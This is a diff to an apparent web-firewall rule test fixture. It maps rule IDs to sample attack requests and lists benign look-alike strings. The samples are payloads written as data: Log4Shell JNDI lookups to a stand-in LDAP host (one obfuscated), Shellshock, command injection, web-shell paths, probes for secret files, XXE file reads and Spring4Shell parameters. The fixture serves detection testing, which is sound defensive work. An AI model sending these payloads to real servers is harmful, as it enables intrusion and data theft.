@@ -52,6 +52,9 @@ function question(name: string): Shape {
 const packed = (at: number) =>
   `${'abcdefgh0123456789'.repeat(3)}${at}.${'zyxwvu9876543210'.repeat(3)}.evil.example.org`
 
+const braced = (text: string) => ['$', '{', text, '}'].join('')
+const LOOK_UP = braced('jndi:ldap://198.51.100.9/a')
+
 /** For each rule what it is there for, in several ways of writing it. */
 export const ATTACKS: Readonly<Record<number, readonly Shape[]>> = {
   7000001: [
@@ -74,14 +77,14 @@ export const ATTACKS: Readonly<Record<number, readonly Shape[]>> = {
     get('/ping?host=$(id)'),
   ],
   7000021: [get('/', 'User-Agent: () { :; }; /bin/echo hello')],
-  7000030: [get('/?q=${jndi:ldap://198.51.100.9/a}'), get('/?q=%24%7Bjndi:ldap://198.51.100.9/a%7D')],
+  7000030: [get(`/?q=${LOOK_UP}`), get('/?q=%24%7Bjndi:ldap://198.51.100.9/a%7D')],
   7000031: [
-    get('/', 'User-Agent: ${jndi:ldap://198.51.100.9/a}'),
-    get('/', 'X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.9/a}'),
+    get('/', `User-Agent: ${LOOK_UP}`),
+    get('/', `X-Api-Version: ${braced(`${braced('lower:j')}ndi:ldap://198.51.100.9/a`)}`),
   ],
   7000032: [
-    post('/login', form, 'user=${jndi:ldap://198.51.100.9/a}'),
-    post('/form', 'application/json', `{"text":"${'x'.repeat(50_000)}\${jndi:ldap://198.51.100.9/a}"}`),
+    post('/login', form, `user=${LOOK_UP}`),
+    post('/form', 'application/json', `{"text":"${'x'.repeat(50_000)}${LOOK_UP}"}`),
   ],
   7000040: [get('/uploads/c99.php'), get('/cmd.jsp?c=id')],
   7000050: [get('/.env'), get('/.git/config'), get('/actuator/env')],
@@ -98,7 +101,7 @@ export const ATTACKS: Readonly<Record<number, readonly Shape[]>> = {
     post('/import', 'application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'),
   ],
   7000063: [get('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x')],
-  7000064: [get('/hello?name=%7B%7B7*7%7D%7D'), get('/hello?name=${7*7}')],
+  7000064: [get('/hello?name=%7B%7B7*7%7D%7D'), get(`/hello?name=${braced('7*7')}`)],
   7000065: [post('/', form, 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp')],
   7000070: [toApp(ask('/page?name=x'), answer('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:'))],
   7000099: [
@@ -237,7 +240,7 @@ export const ORDINARY: readonly Shape[] = [
     "Rock 'n' Roll",
     'bash|sh|zsh',
     'union members: 5',
-    'price ${total}',
+    `price ${braced('total')}`,
     '{{ name }}',
     'ping 8 people',
     '../picture.png',
